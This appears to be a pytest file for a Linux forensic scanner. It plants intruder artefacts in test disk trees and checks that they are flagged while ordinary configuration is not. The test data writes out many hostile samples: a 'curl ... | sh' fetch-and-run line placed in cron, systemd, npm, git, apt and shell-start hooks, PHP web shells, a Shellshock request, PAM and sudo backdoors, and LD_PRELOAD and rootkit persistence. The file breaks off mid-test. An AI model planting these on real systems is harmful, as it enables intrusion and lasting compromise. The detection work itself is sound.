# SPDX-License-Identifier: AGPL-3.0-or-later
"""Each kind of artefact that an intruder leaves is found, and what distributions and administrators have in the same place is not."""

import gzip
import json
import sqlite3
from contextlib import closing

import pytest
from clean_room_analysis.checks import artefact_checks
from clean_room_analysis.checks.base import Check
from clean_room_analysis.checks.startup import Startup
from clean_room_analysis.model import Finding, Severity, nanoseconds_of
from conftest import TreeMaker

ADDRESS = "198.51.100.23"
FETCH = f"curl -s http://{ADDRESS}/x | sh"
RANK = list(Severity)
CONTAINER = "/var/lib/docker/containers/" + "a" * 64


def check_named(name: str) -> Check:
    """A new instance of a check."""
    return next(one for one in artefact_checks() if one.name == name)


def hexadecimal(text: str) -> str:
    return text.encode().hex().upper()


PLANTED = [
    # name, path, content, check, at least
    ("auditd: a command", "/var/log/audit/audit.log", f'type=EXECVE msg=audit(1764340000.1:5): argc=3 a0="sh" a1="-c" a2={hexadecimal(FETCH)}\n', "logins", "high"),
    ("auditd: its title", "/var/log/audit/audit.log.1", f"type=PROCTITLE msg=audit(1764340000.1:5): proctitle={hexadecimal('/dev/shm/.x/run')}\n", "logins", "high"),
    ("auditd: switched off", "/var/log/audit/audit.log", "type=CONFIG_CHANGE msg=audit(1764340000.1:9): op=set audit_enabled=0 old=1 auid=0 ses=1 res=1\n", "logins", "high"),
    ("auditd: guessed", "/var/log/audit/audit.log", "".join(f"type=USER_LOGIN msg=audit({1764340000 + n}.1:{n}): pid=1 uid=0 msg='op=login acct=\"root\" exe=\"/usr/sbin/sshd\" hostname=? addr={ADDRESS} terminal=ssh res={'success' if n == 12 else 'failed'}'\n" for n in range(13)), "logins", "critical"),
    ("cloud-init's output", "/var/log/cloud-init-output.log", f"Cloud-init v. 22\n+ {FETCH}\n", "activity-logs", "high"),
    ("user data", "/var/lib/cloud/instances/i-1/user-data.txt", f"#cloud-config\nruncmd:\n - {FETCH}\n", "startup", "high"),
    ("cloud-init, setting", "/etc/cloud/cloud.cfg.d/99-x.cfg", f"bootcmd:\n - [sh, -c, '{FETCH}']\n", "startup", "high"),
    ("Run Command", "/var/lib/amazon/ssm/i-1/document/orchestration/1/awsrunShellScript/0.awsrunShellScript/_script.sh", f"#!/bin/sh\n{FETCH}\n", "activity-logs", "high"),
    ("SSM agent's log", "/var/log/amazon/ssm/amazon-ssm-agent.log", f"2026-11-01 01:00:00 INFO {FETCH}\n", "activity-logs", "high"),
    ("apt: a defence removed", "/var/log/apt/history.log", "Start-Date: 2026-11-01  01:00:00\nCommandline: apt-get purge auditd\nPurge: auditd:amd64 (1:3.0)\n", "activity-logs", "medium"),
    ("dpkg: a defence removed", "/var/log/dpkg.log", "2026-11-01 01:00:00 remove auditd:amd64 1:3.0 <none>\n", "activity-logs", "medium"),
    ("dnf: a defence removed", "/var/log/dnf.rpm.log", "2026-11-01T01:00:00+0000 SUBDEBUG Erase: amazon-ssm-agent-3.3-1.x86_64\n", "activity-logs", "medium"),
    ("yum: a tool installed", "/var/log/yum.log", "Nov 01 01:00:00 Installed: 2:nmap-6.40-19.x86_64\n", "activity-logs", "low"),
    ("container: the whole host", f"{CONTAINER}/hostconfig.json", json.dumps({"Binds": ["/:/host"], "Privileged": True}), "containers", "high"),
    ("container: a miner", f"{CONTAINER}/config.v2.json", json.dumps({"Name": "/x", "Config": {"Image": "evil/xmrig", "Cmd": ["-o", "stratum+tcp://pool.example:3333"]}}), "containers", "critical"),
    ("container: leaves itself", f"{CONTAINER}/config.v2.json", json.dumps({"Name": "/x", "Path": "chroot", "Args": ["/host", "bash"], "Config": {"Image": "alpine"}}), "containers", "high"),
    ("container's log", f"{CONTAINER}/{'a' * 64}-json.log", json.dumps({"log": f"+ {FETCH}\n", "stream": "stdout"}) + "\n", "containers", "medium"),
    ("pod's log", "/var/log/pods/default_x_1/x/0.log", f"2026-11-01T01:00:00.1Z stdout F {FETCH}\n", "containers", "medium"),
    ("static pod", "/etc/kubernetes/manifests/x.yaml", "spec:\n  containers:\n  - securityContext:\n      privileged: true\n  volumes:\n  - hostPath:\n      path: /\n", "containers", "high"),
    ("engine open to all", "/etc/docker/daemon.json", '{"hosts": ["tcp://0.0.0.0:2375"]}', "containers", "high"),
    ("containerd's task", "/run/containerd/io.containerd.runtime.v2.task/k8s.io/x/config.json", json.dumps({"process": {"args": ["nsenter", "-t", "1", "-m", "bash"]}, "linux": {}}), "containers", "high"),
    ("crontab of SUSE", "/var/spool/cron/tabs/root", f"* * * * * {FETCH}\n", "cron", "high"),
    ("crontab of Alpine", "/etc/crontabs/root", f"* * * * * {FETCH}\n", "cron", "high"),
    ("fcron", "/var/spool/fcron/root.orig", f"* * * * * {FETCH}\n", "cron", "high"),
    ("at", "/var/spool/at/a00001018b1c11", f"#!/bin/sh\numask 22\n{FETCH}\n", "cron", "high"),
    ("polkit: everything", "/etc/polkit-1/rules.d/49-x.rules", "polkit.addRule(function(action, subject) { return polkit.Result.YES; });", "name-services", "high"),
    ("polkit: one user", "/etc/polkit-1/rules.d/10-x.rules", 'polkit.addRule(function(action, subject) { if (action.id == "org.freedesktop.policykit.exec" && subject.user == "www-data") { return polkit.Result.YES; } });', "name-services", "high"),
    ("polkit: local authority", "/var/lib/polkit-1/localauthority/50-local.d/x.pkla", "[x]\nIdentity=unix-user:x\nAction=*\nResultAny=yes\n", "name-services", "high"),
    ("D-Bus service", "/usr/share/dbus-1/system-services/org.x.service", "[D-BUS Service]\nName=org.x\nExec=/dev/shm/.x/run\nUser=root\n", "startup", "high"),
    ("udev of the vendor", "/usr/lib/udev/rules.d/99-x.rules", 'SUBSYSTEM=="net", RUN+="/bin/sh -c \'/var/tmp/.x/run\'"\n', "startup", "high"),
    ("PAM: asks for nothing", "/etc/pam.d/sshd", "auth sufficient pam_permit.so\nauth include password-auth\n", "accounts", "high"),
    ("NSS module", "/etc/nsswitch.conf", "passwd: files evil\ngroup: files\n", "name-services", "medium"),
    ("hosts", "/etc/hosts", "127.0.0.1 localhost\n0.0.0.0 database.clamav.net\n", "name-services", "medium"),
    ("initramfs hook", "/etc/initramfs-tools/scripts/init-bottom/x", f"#!/bin/sh\n{FETCH}\n", "startup", "high"),
    ("dracut module", "/usr/lib/dracut/modules.d/99x/x.sh", f"#!/bin/sh\n{FETCH}\n", "startup", "high"),
    ("grub.cfg", "/boot/grub2/grub.cfg", "linux /vmlinuz root=/dev/xvda1 ro init=/usr/lib/.x/run\n", "kernel-settings", "high"),
    ("boot entry", "/boot/loader/entries/a.conf", "title x\noptions root=UUID=1 ro systemd.debug_shell=1\n", "kernel-settings", "high"),
    ("kernel command line", "/etc/kernel/cmdline", "root=UUID=1 ro rdinit=/tmp/x\n", "kernel-settings", "high"),
    ("binfmt", "/etc/binfmt.d/x.conf", ":x:M::\\x7fELF::/var/tmp/.x/run:C\n", "kernel-settings", "high"),
    ("core_pattern", "/etc/sysctl.d/99-x.conf", "kernel.core_pattern = |/dev/shm/x %p\n", "kernel-settings", "high"),
    ("modprobe", "/etc/sysctl.conf", "kernel/modprobe = /opt/x/m\n", "kernel-settings", "medium"),
    ("motd", "/etc/update-motd.d/00-header", f"#!/bin/sh\n{FETCH}\n", "startup", "high"),
    ("profile.d", "/etc/profile.d/x.sh", f"({FETCH}) &\n", "startup", "high"),
    ("alias", "/home/a/.bashrc", "alias sudo='/home/a/.x/s'\n", "startup", "high"),
    ("trap", "/root/.bashrc", f"trap '{FETCH}' DEBUG\n", "startup", "high"),
    ("sudo's defaults", "/etc/sudoers.d/x", "Defaults !authenticate\n", "accounts", "high"),
    ("sudo: way out", "/etc/sudoers.d/x", "www-data ALL=(root) NOPASSWD: /usr/bin/find\n", "accounts", "medium"),
    ("sudo: temporary", "/etc/sudoers", "app ALL=(root) NOPASSWD: /tmp/x.sh\n", "accounts", "high"),
    ("doas", "/etc/doas.conf", "permit nopass www-data as root\n", "accounts", "high"),
    ("user unit", "/home/a/.config/systemd/user/x.service", "[Service]\nExecStart=/home/a/.x/run\n", "systemd", "high"),
    ("drop-in", "/etc/systemd/system/sshd.service.d/x.conf", f"[Service]\nExecStartPost=/bin/sh -c '{FETCH}'\n", "systemd", "high"),
    ("generator", "/etc/systemd/system-generators/x", "#!/bin/sh\n", "systemd", "medium"),
    ("logrotate", "/etc/logrotate.d/x", f"/var/log/x {{\n postrotate\n {FETCH}\n endscript\n}}\n", "startup", "high"),
    ("network hook", "/etc/network/if-up.d/x", f"#!/bin/sh\n{FETCH}\n", "startup", "high"),
    ("apt hook", "/etc/apt/apt.conf.d/99x", f'APT::Update::Pre-Invoke {{"{FETCH}";}};\n', "startup", "high"),
    ("package's script", "/var/lib/dpkg/info/x.postinst", f"#!/bin/sh\n{FETCH}\n", "startup", "high"),
    ("xinetd", "/etc/xinetd.d/x", "service x\n{\n server = /bin/sh\n server_args = -c /dev/shm/x\n}\n", "startup", "high"),
    ("supervisor", "/etc/supervisor/conf.d/x.conf", "[program:x]\ncommand=/var/tmp/x\n", "startup", "high"),
    ("git", "/home/a/.gitconfig", f"[core]\n sshCommand = sh -c '{FETCH}'\n", "startup", "high"),
    ("Python's start", "/usr/lib/python3/dist-packages/x.pth", "import os;os.system('id')\n", "startup", "high"),
    ("mail", "/etc/aliases", 'x: "|/var/tmp/.x/run"\n', "startup", "high"),
    ("host access", "/etc/hosts.allow", f"sshd: ALL: spawn ({FETCH})\n", "startup", "high"),
    ("rsyslog", "/etc/rsyslog.d/99.conf", 'action(type="omprog" binary="/dev/shm/.x")\n', "startup", "high"),
    ("vim", "/root/.vimrc", f"call system('{FETCH}')\n", "startup", "high"),
    ("less", "/root/.lesshst", f'.less-history-file:\n.shell\n"{FETCH}\n', "shell-history", "high"),
    ("viminfo", "/root/.viminfo", f":!{FETCH}\n", "shell-history", "high"),
    ("viminfo: edited", "/root/.viminfo", "> /etc/ld.so.preload\n", "shell-history", "low"),
    ("known_hosts", "/root/.ssh/known_hosts", "10.0.0.5 ssh-ed25519 AAAA\n|1|a|b ssh-rsa AAAA\n", "ssh", "informational"),
    ("SSH's variables", "/home/a/.ssh/environment", "LD_PRELOAD=/home/a/x.so\n", "ssh", "high"),
    ("AWS keys", "/root/.aws/credentials", "[default]\naws_secret_access_key = SECRETSECRET\n", "exposed-credentials", "low"),
    ("kubeconfig", "/home/a/.kube/config", "users:\n- user:\n    token: SECRETSECRET\n", "exposed-credentials", "low"),
    ("git's password", "/home/a/.git-credentials", "https://a:SECRETSECRET@github.com\n", "exposed-credentials", "low"),
    ("environment file", "/opt/app/.env", "DEBUG=1\nDB_PASSWORD=SECRETSECRET\n", "exposed-credentials", "low"),
    ("private key", "/home/a/.ssh/id_ed25519", "-----BEGIN OPENSSH PRIVATE KEY-----\nSECRETSECRET\n", "exposed-credentials", "low"),
    ("directory of dots", "/var/tmp/.../x", "x", "odd-directories", "high"),
    ("directory of a blank", "/usr/lib/ /x", "x", "odd-directories", "high"),
    ("hidden directory", "/usr/lib/.hid/x", "x", "odd-directories", "medium"),
    ("hidden device directory", "/dev/shm/.x/data", "x", "odd-directories", "low"),
    ("git hook of a server", "/srv/repo.git/hooks/post-receive", f"#!/bin/sh\n{FETCH}\n", "startup", "high"),
    ("git hook", "/home/a/app/.git/hooks/pre-commit", "#!/bin/sh\n/dev/shm/.k/run\n", "startup", "high"),
    ("git, setting of one tree", "/home/a/app/.git/config", f"[core]\n\tfsmonitor = \"sh -c '{FETCH}'\"\n", "startup", "high"),
    ("inittab", "/etc/inittab", "x:2345:respawn:/dev/shm/.k/run\n", "startup", "high"),
    ("session script", "/etc/X11/Xsession.d/99x", "/dev/shm/.k/run &\n", "startup", "high"),
    ("session variables", "/home/a/.pam_environment", "LD_PRELOAD DEFAULT=/home/a/x.so\n", "startup", "high"),
    ("dkms", "/usr/src/x-1/dkms.conf", "PACKAGE_NAME=x\nPOST_INSTALL=/dev/shm/.k/run\n", "startup", "high"),
    ("acpi", "/etc/acpi/events/x", "event=.*\naction=/dev/shm/.k/run\n", "startup", "high"),
    ("snmpd", "/etc/snmp/snmpd.conf", f"extend x /bin/sh -c '{FETCH}'\n", "startup", "high"),
    ("gdb", "/root/.gdbinit", f"shell {FETCH}\n", "startup", "high"),
    ("psql", "/root/.psqlrc", f"\\! {FETCH}\n", "startup", "high"),
    ("hook of containers", "/usr/share/containers/oci/hooks.d/x.json", '{"hook": {"path": "/dev/shm/.k/run"}}', "startup", "high"),
    ("sleep hook", "/usr/lib/systemd/system-sleep/x", f"#!/bin/sh\n{FETCH}\n", "startup", "high"),
    ("environment of all services", "/etc/systemd/system.conf.d/x.conf", '[Manager]\nDefaultEnvironment="LD_PRELOAD=/tmp/x.so"\n', "startup", "high"),
    ("module of nginx", "/etc/nginx/nginx.conf", "load_module /tmp/x.so;\n", "startup", "high"),
    ("setting of PHP", "/etc/php/8.2/fpm/conf.d/99.ini", "auto_prepend_file=/var/tmp/.x.php\n", "startup", "high"),
    ("module of redis", "/etc/redis/redis.conf", "loadmodule /tmp/x.so\n", "startup", "high"),
    ("npm", "/srv/app/package.json", f'{{"scripts": {{"postinstall": "{FETCH}"}}}}', "startup", "high"),
    ("tmpfiles: a job", "/etc/tmpfiles.d/x.conf", "f+ /etc/cron.d/x 0644 root root - * * * * * root /dev/shm/.x\n", "startup", "medium"),
    ("tmpfiles: a key as systemd's own file has it", "/etc/tmpfiles.d/provision.conf", "f^ /root/.ssh/authorized_keys :0600 root :root - ssh.authorized_keys.root\n", "startup", "medium"),
    ("start-up script: old times", "/etc/init.d/sudo2", "#!/bin/sh\nfind /run/sudo -exec touch -d @0 /usr/bin/sudo '{}' \\;\n", "startup", "medium"),
    ("tmpfiles: set-user-id", "/etc/tmpfiles.d/x.conf", "z /usr/bin/bash 4755 root root -\n", "startup", "medium"),
    ("variables of a unit", "/etc/systemd/system/x.service", "[Service]\nEnvironmentFile=/dev/shm/e\n", "systemd", "high"),
    ("unit in a cache", "/usr/local/lib/systemd/system/x.service", "[Service]\nExecStart=/usr/lib/.cache/d\n", "systemd", "high"),
    ("shell of cron", "/etc/crontab", "SHELL=/tmp/x\n* * * * * root true\n", "cron", "high"),
    ("SSH: keys in a hidden place", "/etc/ssh/sshd_config.d/x.conf", "AuthorizedKeysFile /etc/ssh/.keys/%u\n", "ssh", "high"),
    ("SSH: file transfer", "/etc/ssh/sshd_config", "Subsystem sftp /dev/shm/.k/run\n", "ssh", "high"),
    ("SSH: every log-in", "/etc/ssh/sshd_config", "ForceCommand /dev/shm/.k/run\n", "ssh", "high"),
    ("SSH: a program decides", "/etc/ssh/sshd_config", "AuthorizedKeysCommand /dev/shm/.k/run\n", "ssh", "high"),
    ("group", "/etc/group", "root:x:0:\nsudo:x:27:www-data\n", "accounts", "medium"),
    ("PAM: one account", "/etc/pam.d/system-auth", "auth sufficient pam_succeed_if.so user = bob\n", "accounts", "high"),
    ("PAM: unknown module", "/etc/pam.d/sshd", "auth sufficient pam_backdoor.so\n", "accounts", "medium"),
    ("rootkit at start", "/etc/modules-load.d/x.conf", "diamorphine\n", "kernel-modules", "high"),
    ("rootkit in the tree", "/lib/modules/6.1/extra/reptile.ko", "\x7fELF", "kernel-modules", "high"),
    ("rhosts", "/root/.rhosts", "+ +\n", "remote-trust", "high"),
    ("hosts.equiv", "/etc/hosts.equiv", "+\n", "remote-trust", "high"),
    ("exports", "/etc/exports", "/ *(rw,no_root_squash)\n", "remote-trust", "high"),
    ("k5login", "/root/.k5login", "evil@EXAMPLE.ORG\n", "remote-trust", "high"),
    ("compose", "/opt/x/docker-compose.yml", "services:\n  a:\n    privileged: true\n    volumes: ['/:/host']\n", "containers", "high"),
    ("program among pages", "/var/www/html/uploads/x", "\x7fELF", "temporary-executables", "medium"),
    ("page that takes in a file", "/var/www/html/c.php", "<?php @include('/tmp/.sess_x');", "web-shell", "high"),
    ("Shellshock", "/var/log/httpd/access_log", f'{ADDRESS} - - [01/Nov/2026:01:00:00 +0000] "GET /cgi-bin/x HTTP/1.1" 200 5 "-" "() {{ :; }}; /bin/bash -c id"\n', "web-logs", "medium"),
    ("shell by a path", "/var/log/httpd/access_log", f'{ADDRESS} - - [01/Nov/2026:01:00:00 +0000] "POST /cgi-bin/.%2e/.%2e/.%2e/bin/sh HTTP/1.1" 200 5 "-" "-"\n', "web-logs", "medium"),
    ("web request", "/var/log/nginx/access.log", f'{ADDRESS} - - [01/Nov/2026:01:00:00 +0000] "GET /a?cmd=wget%20http://{ADDRESS}/x|sh HTTP/1.1" 200 5 "-" "-"\n', "web-logs", "medium"),
    ("web request for an upload", "/var/log/httpd/access_log", f'{ADDRESS} - - [01/Nov/2026:01:00:00 +0000] "POST /uploads/a.php HTTP/1.1" 200 5 "-" "-"\n', "web-logs", "medium"),
    ("web error log", "/var/log/apache2/error.log", "--2026-11-01 01:00:00--  http://198.51.100.23/x\n", "web-logs", "medium"),
]  # fmt: skip


@pytest.mark.parametrize(("path", "content", "check", "least"), [one[1:] for one in PLANTED], ids=[one[0] for one in PLANTED])
def test_planted(plain: TreeMaker, path: str, content: str, check: str, least: str) -> None:
    plain.file(path, content, 0o755 if content.startswith("\x7fELF") else 0o644)
    found = plain.findings(check_named(check))
    assert found and min(RANK.index(one.severity) for one in found) <= RANK.index(Severity(least)), found
    assert all(one.path is not None and path.startswith(one.path) and one.attack for one in found)
    assert not any("SECRETSECRET" in one.evidence + one.title for one in found)


ORDINARY = [
    ("/etc/nsswitch.conf", "passwd: files sss systemd\nhosts: files resolve [!UNAVAIL=return] myhostname dns mdns4_minimal [NOTFOUND=return]\nsudoers: files\n"),
    ("/etc/hosts", "127.0.0.1 localhost ip-10-0-0-1.eu-west-1.compute.internal\n::1 localhost6\n10.0.0.3 db\n"),
    ("/usr/share/polkit-1/rules.d/50-default.rules", 'polkit.addAdminRule(function(action, subject) { return ["unix-group:wheel"]; });'),
    ("/etc/polkit-1/rules.d/49-x.rules", 'polkit.addRule(function(action, subject) { if (action.id == "org.freedesktop.systemd1.manage-units" && subject.isInGroup("wheel")) { return polkit.Result.YES; } });'),
    ("/usr/share/dbus-1/system-services/org.freedesktop.login1.service", "[D-BUS Service]\nName=org.freedesktop.login1\nExec=/bin/false\nUser=root\n"),
    ("/boot/grub2/grub.cfg", "linux /boot/vmlinuz-6.1 root=UUID=1 ro console=tty0 nvme_core.io_timeout=4294967295 rd.emergency=poweroff rd.shell=0 selinux=1 security=selinux quiet\n"),
    ("/boot/grub/grub.cfg", "linux /boot/vmlinuz-6.1 root=UUID=1 ro single nomodeset\n"),
    ("/boot/loader/entries/a.conf", "title Amazon Linux\noptions root=UUID=1 ro init=/usr/lib/systemd/systemd\n"),
    ("/etc/sysctl.d/10.conf", "kernel.core_pattern=|/usr/lib/systemd/systemd-coredump %P %u\nnet.ipv4.ip_forward = 1\n"),
    ("/usr/lib/binfmt.d/python.conf", ":py:M::\\x00::/usr/bin/python3:\n"),
    ("/etc/sudoers", "Defaults env_reset\nDefaults secure_path=/sbin:/bin\nDefaults env_keep += \"LANG\"\nroot ALL=(ALL:ALL) ALL\n%wheel ALL=(ALL) ALL\n%sudo ALL=(ALL:ALL) ALL\n"),
    ("/etc/pam.d/common-auth", "auth [success=1 default=ignore] pam_unix.so nullok\nauth requisite pam_deny.so\nauth required pam_permit.so\n"),
    ("/etc/pam.d/su", "auth sufficient pam_rootok.so\n"),
    (f"{CONTAINER}/hostconfig.json", json.dumps({"Binds": ["/data:/data", "/var/run/docker.sock:/var/run/docker.sock"], "Privileged": False, "NetworkMode": "bridge"})),
    (f"{CONTAINER}/config.v2.json", json.dumps({"Name": "/web", "Created": "2026-11-01T01:00:00.123456789Z", "Config": {"Image": "nginx:1.27", "Cmd": ["nginx", "-g", "daemon off;"], "Env": ["PATH=/usr/bin"]}})),
    (f"{CONTAINER}/{'a' * 64}-json.log", json.dumps({"log": "GET / 200\n", "stream": "stdout"}) + "\n"),
    ("/etc/docker/daemon.json", '{"log-driver": "json-file"}'),
    ("/etc/kubernetes/manifests/kube-apiserver.yaml", "spec:\n  containers:\n  - command: [kube-apiserver, --etcd-servers=https://127.0.0.1:2379]\n  volumes:\n  - hostPath:\n      path: /etc/kubernetes/pki\n"),
    ("/etc/logrotate.d/nginx", "/var/log/nginx/*.log {\n postrotate\n  [ -f /run/nginx.pid ] && kill -USR1 `cat /run/nginx.pid`\n endscript\n}\n"),
    ("/etc/apt/apt.conf.d/20auto", 'APT::Periodic::Update-Package-Lists "1";\nDPkg::Post-Invoke { "rm -f /var/cache/apt/archives/*.deb || true"; };\n'),
    ("/usr/lib/python3/dist-packages/distutils-precedence.pth", "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n"),
    ("/etc/update-motd.d/30-banner", "#!/bin/sh\ncat << EOF\n   ,     #_   Amazon Linux 2023\nEOF\n"),
    ("/var/log/cloud-init-output.log", "Cloud-init v. 22.2.2 running 'modules:final'\nInstalled:\n  httpd-2.4\ncurl: (6) Could not resolve host\n"),
    ("/var/log/dnf.rpm.log", "2026-11-01T01:00:00+0000 SUBDEBUG Installed: httpd-2.4-1.x86_64\n2026-11-01T01:00:00+0000 SUBDEBUG Upgraded: rsyslog-8-1.x86_64\n"),
    ("/var/log/dpkg.log", "2026-11-01 01:00:00 status installed auditd:amd64 1:3.0\n2026-11-01 01:00:00 upgrade rsyslog:amd64 8.1 8.2\n"),
    ("/var/log/nginx/access.log", f'{ADDRESS} - - [01/Nov/2026:01:00:00 +0000] "GET /../../etc/passwd HTTP/1.1" 404 5 "-" "-"\n{ADDRESS} - - [01/Nov/2026:01:00:00 +0000] "GET /wp-content/uploads/a.jpg?c=1 HTTP/1.1" 200 5 "-" "-"\n'),
    ("/var/log/nginx/error.log", "2026/11/01 01:00:00 [error] 1#1: *1 open() \"/usr/share/nginx/html/favicon.ico\" failed (2: No such file or directory)\n"),
    ("/var/log/audit/audit.log", "type=SERVICE_START msg=audit(1764340000.1:5): pid=1 uid=0 msg='unit=sshd comm=\"systemd\" res=success'\ntype=PROCTITLE msg=audit(1764340000.1:6): proctitle=2F7573722F7362696E2F73736864002D44\n"),
    ("/root/.viminfo", "# This viminfo file was generated by Vim\n:wq\n> /etc/nginx/nginx.conf\n"),
    ("/home/a/.ssh/config", "Host *\n  ProxyCommand aws ssm start-session --target %h\n"),
    ("/home/a/.gitconfig", "[user]\n name = a\n[core]\n pager = less\n[alias]\n co = checkout\n"),
    ("/opt/app/.env.example", "DB_PASSWORD=hunter2222\n"),
    ("/opt/app/.env", "DEBUG=1\nDB_PASSWORD=${DB_PASSWORD}\n"),
    ("/opt/app/node_modules/x/test/key.pem", "-----BEGIN RSA PRIVATE KEY-----\n"),
    ("/tmp/.X11-unix/note", "x"),
    ("/home/a/.mozilla/x", "x"),
    ("/etc/cron.d/app", "*/5 * * * * app /opt/app/backup.sh\n"),
    ("/opt/app/backup.sh", "#!/bin/sh\n# curl http://198.51.100.23/x | sh\ntar czf /backup/a.tgz /srv && aws s3 cp /backup/a.tgz s3://bucket/\n"),
    ("/etc/systemd/system/app.service", "[Service]\nExecStart=/opt/app/backup.sh\nEnvironment=NODE_ENV=production\n"),
    ("/etc/profile.d/lang.sh", "alias ls='ls --color=auto'\nexport PROMPT_COMMAND='printf \"\\033]0;%s\\007\" \"$PWD\"'\n"),
    ("/etc/aliases", "root: admin\npostmaster: root\n"),
    ("/home/a/app/.git/hooks/pre-commit", "#!/bin/sh\nnpx lint-staged\n"),
    ("/home/a/app/.git/hooks/pre-push.sample", "#!/bin/sh\n/tmp/x\n"),
    ("/home/a/app/.git/config", "[core]\n\tbare = false\n[credential]\n\thelper = store\n"),
    ("/srv/app/package.json", '{"scripts": {"postinstall": "node scripts/build.js", "prepare": "husky"}}'),
    ("/etc/nginx/nginx.conf", "load_module modules/ngx_http_image_filter_module.so;\nserver {\n root /var/www/html;\n client_body_temp_path /tmp/nginx;\n}\n"),
    ("/etc/php/8.2/fpm/php.ini", "extension=curl\nauto_prepend_file =\n;extension=/tmp/x.so\n"),
    ("/etc/redis/redis.conf", "# loadmodule /path/to/my_module.so\nbind 127.0.0.1\n"),
    ("/usr/lib/tmpfiles.d/tmp.conf", "q /tmp 1777 root root 10d\nd /run/sudo 0711 root root -\nz /var/log/journal 2755 root systemd-journal - -\nL /etc/ssh/x - - - - -\n"),
    ("/usr/lib/tmpfiles.d/provision.conf", "f^ /etc/hosts - - - - network.hosts\nd- /root/.ssh :0700 root :root -\nf^ /root/.ssh/authorized_keys :0600 root :root - ssh.authorized_keys.root\n"),
    ("/etc/init.d/sudo", "#!/bin/sh\n                        find /run/sudo -exec touch -d @0 '{}' \\;\n"),
    ("/etc/group", "root:x:0:\nsudo:x:27:admin,ubuntu\ndocker:x:998:ec2-user,jenkins\nwww-data:x:33:\ndaemon:x:1:\n"),
    ("/etc/pam.d/common-session", "session [default=1] pam_permit.so\nsession optional pam_systemd.so\nauth sufficient pam_succeed_if.so uid >= 1000 quiet_success\n"),
    ("/etc/pam.d/gdm-password", "auth sufficient pam_succeed_if.so user ingroup nopasswdlogin\nauth optional pam_gnome_keyring.so\n"),
    ("/etc/ssh/sshd_config", "Subsystem sftp /usr/libexec/openssh/sftp-server\nAuthorizedKeysFile .ssh/authorized_keys .ssh/authorized_keys2\nAuthorizedKeysCommand /opt/aws/bin/eic_run_authorized_keys %u %f\n"),
    ("/etc/modules-load.d/k8s.conf", "overlay\nbr_netfilter\n"),
    ("/etc/exports", "/srv/share 10.0.0.0/8(rw,sync,root_squash)\n"),
    ("/opt/app/docker-compose.yml", "services:\n  web:\n    image: nginx\n    volumes: ['./data:/data', '/var/log:/logs:ro']\n"),
    ("/etc/acpi/events/powerbtn", "event=button/power.*\naction=/etc/acpi/powerbtn.sh\n"),
    ("/etc/X11/Xsession.d/20x11-common", "OPTIONS=$(cat /etc/X11/Xsession.options)\n"),
    ("/etc/sudo.conf", "Plugin sudoers_policy sudoers.so\nPath askpass /usr/bin/ssh-askpass\n"),
]  # fmt: skip


def test_ordinary_machines_are_left_alone(plain: TreeMaker) -> None:
    for path, content in ORDINARY:
        plain.file(path, content)
    noisy = [
        (one.check, one.path, one.title)
        for check in artefact_checks()
        for one in plain.findings(check)
        if one.severity in (Severity.CRITICAL, Severity.HIGH, Severity.MEDIUM)
    ]
    assert noisy == []


def test_an_application_open_to_all_is_not_a_finding_for_each_of_its_packages(plain: TreeMaker) -> None:
    plain.file("/srv/app/node_modules/debug/package.json", '{"name": "debug"}', 0o666)
    plain.file("/etc/profile.d/x.sh", "export A=1\n", 0o666)
    assert [one.path for one in plain.findings(Startup())] == ["/etc/profile.d/x.sh"]


def test_a_job_is_judged_by_the_script_it_runs(plain: TreeMaker) -> None:
    plain.file("/etc/cron.d/update", "0 1 * * * root /usr/local/sbin/update --quiet\n")
    plain.file("/etc/systemd/system/up.service", "[Service]\nExecStart=/bin/sh /usr/local/sbin/update\n")
    plain.file("/usr/local/sbin/update", f"#!/bin/sh\n{FETCH}\n")
    (job,) = plain.findings(check_named("cron"))
    (unit,) = plain.findings(check_named("systemd"))
    assert job.severity is unit.severity is Severity.HIGH
    assert "runs /usr/local/sbin/update, which downloads and runs in one line" in job.title


def test_what_a_package_installed_unchanged_is_low_and_what_it_did_not_install_is_told(plain: TreeMaker) -> None:
    import hashlib

    unit = f"[Service]\nExecStart=/bin/sh -c '{FETCH}'\n"
    digest = hashlib.md5(unit.encode(), usedforsecurity=False).hexdigest()
    plain.file("/usr/lib/systemd/system/vendor.service", unit)
    plain.file("/var/lib/dpkg/status", "")
    plain.file("/var/lib/dpkg/info/base-files.list", "/.\n/usr/lib/systemd/system/vendor.service\n/lib/security/pam_unix.so\n")
    plain.file("/var/lib/dpkg/info/base-files.md5sums", f"{digest}  lib/systemd/system/vendor.service\n")
    plain.file("/usr/lib/security/pam_unix.so", b"\x7fELF")
    plain.file("/usr/lib/security/pam_odd.so", b"\x7fELF")
    plain.file("/usr/lib/systemd/system/odd.service", "[Service]\nExecStart=/usr/bin/odd\n")
    plain.file("/usr/bin/odd", b"\x7fELF")
    units = {one.path: one for one in plain.findings(check_named("systemd"))}
    assert units["/usr/lib/systemd/system/vendor.service"].severity is Severity.LOW
    assert units["/usr/lib/systemd/system/odd.service"].severity is Severity.MEDIUM
    assert {(one.path, one.severity) for one in plain.findings(check_named("packages"))} == {
        ("/usr/lib/security/pam_odd.so", Severity.HIGH),
        ("/usr/lib/systemd/system/odd.service", Severity.MEDIUM),
        ("/usr/bin/odd", Severity.LOW),
    }


def test_the_use_of_a_web_shell_is_told_with_who_used_it(plain: TreeMaker) -> None:
    from clean_room_analysis.checks.web_logs import FoundShells, WebLogs
    from clean_room_analysis.checks.web_shell import WebShell

    line = '{} - - [01/Nov/2026:01:00:0{} +0000] "POST /wp-content/themes/x/404.php?a=1 HTTP/1.1" 200 5 "-" "-"\n'
    packed = gzip.compress((line.format(ADDRESS, 1) + line.format(ADDRESS, 5)).encode())
    plain.file("/var/www/html/wp-content/themes/x/404.php", "<?php @eval($_POST['x']);")
    plain.file("/var/log/nginx/access.log.2.gz", packed)
    plain.file("/var/log/nginx/access.log", '10.0.0.1 - - [02/Nov/2026:01:00:00 +0000] "GET /index.php HTTP/1.1" 200 5\n')
    shells = FoundShells()
    assert len(plain.findings(WebShell(shells))) == 1
    (finding,) = plain.findings(WebLogs(shells))
    assert (finding.path, finding.severity) == ("/var/log/nginx/access.log.2.gz", Severity.HIGH)
    assert f"{ADDRESS} (2)" in finding.evidence and "2 times, answered 2 times" in finding.title
    assert finding.modified == nanoseconds_of("2026-11-01T01:00:05Z")


def test_the_history_of_dnf_is_read(plain: TreeMaker) -> None:
    with closing(sqlite3.connect(plain.file("/var/lib/dnf/history.sqlite"))) as database:
